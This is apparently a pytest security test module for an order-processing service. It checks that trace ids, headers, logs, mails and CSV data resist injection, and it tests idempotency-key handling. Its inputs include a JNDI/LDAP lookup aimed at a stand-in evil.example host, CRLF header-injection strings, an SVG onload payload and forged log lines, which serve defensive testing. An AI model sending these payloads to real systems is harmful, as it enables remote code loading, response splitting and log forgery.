"""Texts that try to become another header, log line, mail header or formula (checklist: log injection blocked, malformed trace
ids replaced, header injection; issue 5: CSV formula injection), and the rules of idempotency keys."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import uuid
from pathlib import Path
from urllib.parse import quote

import pytest
from expedite_e2e import System, eventually, order
from expedite_security.doors import SPECS
from expedite_security.hostile import FORMULAS, LINES
from expedite_security.wire import talk

from expedite_chassis.testing import app
from expedite_messaging.admin import read_topics
from expedite_messaging.memory import MemoryClock, MemoryEngine

ROOT = Path(__file__).parents[2]
TRACES = [
    "00-" + "0" * 32 + "-" + "1" * 16 + "-01", "00-" + "g" * 32 + "-" + "1" * 16 + "-01", "ff-" + "1" * 32 + "-" + "1" * 16 + "-01",
    "00-" + "A" * 32 + "-" + "1" * 16 + "-01", "x" * 5000, "00-evil", "\x1b[2J", '"}{"level":"critical"', "",
]  # fmt: skip


@pytest.mark.parametrize("header", ["traceparent", "x-request-id"])
@pytest.mark.parametrize(
    "text", [*TRACES, "a\tb", "${jndi:ldap://evil.example}", "<svg onload=1>", "evil\xe9\xff"], ids=range(13)
)
def test_ids_of_strangers_are_replaced_by_ours(system: System, header: str, text: str) -> None:
    """I5 (malformed trace ids replaced by ours): none of it is answered, logged or sent on."""
    raw = text.encode("latin-1")
    if header == "x-request-id" and re.fullmatch(r"[A-Za-z0-9._-]{8,64}", text):
        raw += b"!"  # what is shaped like an id is taken over: made harmless by its shape
    if len(raw) > 4000 or not raw.strip():
        raw = raw[:4000] or b" "
    request = (
        b"GET /orders/20200101-EC-1 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
        + header.encode()
        + b": "
        + raw
        + b"\r\n\r\n"
    )
    heard = talk(system.urls["order-intake"], request)
    assert heard.status in (400, 401)
    if heard.status == 401:
        shown = re.search(rb"\r\n" + header.encode() + rb": ([^\r]*)\r\n", heard.said)
        assert shown is not None and re.fullmatch(rb"[0-9a-f-]{16,55}", shown[1]), shown
        assert raw.strip() == b"" or raw.strip() not in heard.said


def test_no_request_adds_a_header_to_its_answer(system: System) -> None:
    """I5 (header injection): line breaks in paths, queries, origins, hosts and bodies."""
    key = system.state["api_keys"]["operator"]
    for line in (
        b"GET /orders/%0d%0aX-Injected:%20yes HTTP/1.1\r\nHost: x", b"GET /orders?channel=%0d%0aX-Injected:%20yes HTTP/1.1\r\nHost: x",
        b"GET /livez HTTP/1.1\r\nHost: x%0d%0aX-Injected: yes", b"OPTIONS /orders HTTP/1.1\r\nHost: x\r\nOrigin: http://a%0d%0aX-Injected: yes",
        b"GET /problems/%0d%0aX-Injected:%20yes HTTP/1.1\r\nHost: x",
    ):  # fmt: skip
        heard = talk(
            system.urls["order-intake"], line + f"\r\nAuthorization: Bearer {key}\r\nConnection: close\r\n\r\n".encode()
        )
        assert heard.status > 0
        assert b"\r\nx-injected" not in heard.said.lower().split(b"\r\n\r\n")[0]
    with system.client("order-intake") as intake:
        for text in LINES:
            body = order()
            body["reference"] = text if "\x00" not in text else "x"
            answer = intake.post("/orders", json=body)
            assert answer.status_code in (202, 422)
            assert "x-injected" not in answer.headers and "\n" not in answer.headers.get("location", "")


def test_where_an_order_is_does_not_depend_on_the_host_somebody_names(system: System) -> None:
    """I5 (header injection): a status link that names another host is for who sent it alone; signed links of mails and of
    `status-link` always lead to us."""
    with system.client("notifier") as notifier:
        answer = notifier.get(
            "/orders/20200101-EC-000001/status-link",
            headers={"host": "evil.example", "x-forwarded-host": "evil.example"},
        )
        assert answer.json()["url"].startswith(system.urls["notifier"] + "/s/")


def test_no_text_makes_a_second_line_in_a_log(system: System) -> None:
    """I5 (log injection): every user text there is holds line breaks, terminal codes, brackets and format directives; every
    log line still begins as ours do, and no control character is in any."""
    marker = uuid.uuid4().hex
    with (
        system.client("order-intake") as intake,
        system.client("prioritizer") as prioritizer,
        system.client("inventory") as inventory,
    ):
        for text in LINES:
            said = text.replace("\x00", "") + marker
            body = order(note=said)
            body["customer"]["name"] = said[:100]
            order_id = intake.post("/orders", json=body).json().get("order_id", "20200101-EC-000001")
            intake.post(f"/orders/{order_id}/cancel", json={"reason": said}, headers={"user-agent": marker})
            prioritizer.post(f"/orders/{order_id}/raise", json={"reason": said})
            inventory.post("/stock/opening", json={"reference": said[:60], "reason": said, "lines": []})
            intake.get(f"/orders/{quote(said[:40], safe='')}")
            intake.get("/orders", params={"channel": said})
    started = re.compile(r"\d{4}-\d\d-\d\d[T ]|\{\"|\[|\s|Alembic|INFO|[A-Za-z_]+[:=]|$")
    forged = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202e]|^(X-Injected|Bcc|\{\"level\": \"critical\")")
    ours = [
        path for path in sorted((system.home / "logs").iterdir()) if not path.name.startswith(("kafka", "postgres"))
    ]
    lines = [
        (path.name, line) for path in ours for line in path.read_text(encoding="utf-8", errors="replace").split("\n")
    ]
    odd = [(name, line[:200]) for name, line in lines if forged.search(line) or not started.match(line)]
    assert odd == []


def mails_of(system: System, order_id: str) -> list[bytes]:
    found = []
    for path in sorted((system.home / "mail").glob("*.mbox")):
        found += [part for part in re.split(rb"(?m)^From [^\n]*\n", path.read_bytes()) if order_id.encode() in part]
    return found


@pytest.mark.parametrize("text", LINES[:4], ids=range(4))
def test_no_name_adds_a_header_or_a_recipient_to_a_mail(system: System, text: str) -> None:
    """G1, I5 (mail header injection): line breaks in a name, an address, a tag; the mail has its own headers and one
    recipient, or is not sent at all."""
    body = order()
    address = body["customer"]["email"]
    body["customer"]["name"] = text
    with system.client("order-intake") as intake:
        answer = intake.post("/orders", json=body)
        assert answer.status_code == 202
        order_id = answer.json()["order_id"]
        second = order()
        second["customer"]["email"] = f"a@example.com{text[4:]}"
        other = intake.post("/orders", json=second).json()["order_id"]
        state = intake.get(f"/orders/{other}").json()
        assert state["state"] == "held", "an address with a line break in it is no address"
    with system.client("notifier") as notifier:
        eventually(lambda: notifier.get("/messages", params={"order_id": order_id}).json()["items"], "the message")
    eventually(lambda: mails_of(system, order_id) or _failed(system, order_id), "the mail, or its refusal")
    for raw in mails_of(system, order_id):
        head = raw.split(b"\n\n")[0]
        names = {line.split(b":")[0].lower() for line in head.split(b"\n") if line[:1] not in (b" ", b"\t")}
        assert names <= {b"subject", b"from", b"to", b"message-id", b"date", b"x-expedite-order", b"x-expedite-kind",
                         b"x-expedite-occasion", b"auto-submitted", b"mime-version", b"content-type"}  # fmt: skip
        assert b"victim@evil.example" not in head or address.encode() in head
        assert head.lower().count(b"\nto:") == 1 and b"\nbcc" not in head.lower()


def _failed(system: System, order_id: str) -> bool:
    with system.client("notifier") as notifier:
        return bool(notifier.get("/messages", params={"order_id": order_id, "status": "failed"}).json()["items"])


def test_formulas_stay_text(system: System) -> None:
    """A1, I5 (CSV formula injection in uploads): a bulk whose texts are formulas stores exactly these texts, and gives them
    back as JSON texts."""
    orders = []
    for formula in FORMULAS:
        body = order(note=formula)
        body["customer"]["name"] = formula
        body["lines"][0]["name"] = formula
        orders.append(body)
    with system.client("order-intake") as intake:
        verdicts = [
            json.loads(line)
            for line in intake.post("/orders/bulk", content="\n".join(map(json.dumps, orders))).text.splitlines()
        ]
        for formula, verdict in zip(FORMULAS, verdicts[:-1], strict=True):
            found = intake.get(f"/orders/{verdict['order_id']}").json()
            assert found["lines"][0]["name"].strip() == formula.strip()
            assert found["note"].strip() == formula.strip()


def test_nothing_speaks_csv_unguarded() -> None:
    """H5, I5 (CSV formula injection in exports): no route of any service answers a table that a spreadsheet would open, and
    none takes one. The first that does has to write its cells by `expedite_chassis.cells` and to stand in this test."""
    tables = re.compile(r"text/csv|spreadsheet|openpyxl|xlsxwriter|ms-excel|csv\.writer|DictWriter", re.IGNORECASE)
    for spec in SPECS.values():
        described = json.dumps(app(spec, MemoryEngine(spec.handlers, MemoryClock())).openapi())
        assert not tables.search(described), spec.name
    for path in [*ROOT.glob("services/*/src/**/*.py"), *ROOT.glob("libs/*/src/**/*.py")]:
        if path.name != "cells.py":
            text = path.read_text(encoding="utf-8")
            assert not tables.search(text) or "expedite_chassis.cells" in text, path


def test_in_flight_missing_and_reused_keys(system: System) -> None:
    """A6 (idempotency: 16 to 255 printable characters, 422 for another body, replays marked, scoped by client): and of two
    requests at once under one key the second gets the first one's answer instead of a 409, because it waits for it."""
    from concurrent.futures import ThreadPoolExecutor

    with system.client("order-intake") as intake, system.client("order-intake", "dealer") as dealer:
        body, key = order(channel="dealer"), f"key-{uuid.uuid4().hex}"
        with ThreadPoolExecutor(8) as pool:
            answers = list(
                pool.map(lambda _: intake.post("/orders", json=body, headers={"idempotency-key": key}), range(8))
            )
        assert {a.status_code for a in answers} == {202} and len({a.text for a in answers}) == 1
        assert sorted(a.headers.get("idempotency-replayed", "") for a in answers) == ["", *["true"] * 7]
        assert intake.post("/orders", json=order(), headers={"idempotency-key": key}).status_code == 422
        mine = dealer.post("/orders", json=order(channel="dealer"), headers={"idempotency-key": key})
        assert mine.status_code == 202 and mine.json()["order_id"] != answers[0].json()["order_id"]
        for bad in ("", "short", "x" * 256, "\xe9" * 20, "tab\tin the middle of it"):
            answer = intake.post("/orders", json=order(), headers=[(b"idempotency-key", bad.encode("latin-1"))])
            assert answer.status_code == 400, bad
        nothing = order()
        del nothing["reference"]
        refused = intake.post("/orders", json=nothing)
        assert (refused.status_code, refused.json()["type"]) == (400, "/problems/idempotency-key-missing")


def test_no_event_carries_a_control_character_in_its_headers(system: System) -> None:
    """I5 (header injection into events): headers of all records are printable, however hostile the texts of this run were."""

    async def scan() -> tuple[int, list[str]]:
        seen, odd = 0, []
        async for record in read_topics(system.state["kafka_bootstrap"]):
            seen += 1
            values = [
                value.decode("utf-8", "replace") for name, value in record.headers if not name.startswith("ce_subject")
            ]
            if record.topic not in ("StockReserved",) and any(not value.isprintable() for value in values):
                odd.append(record.topic)
        return seen, odd

    seen, odd = asyncio.run(scan())
    assert seen > 100 and odd == []


def _cells(text: str) -> list[str]:
    return next(csv.reader(io.StringIO(text)))
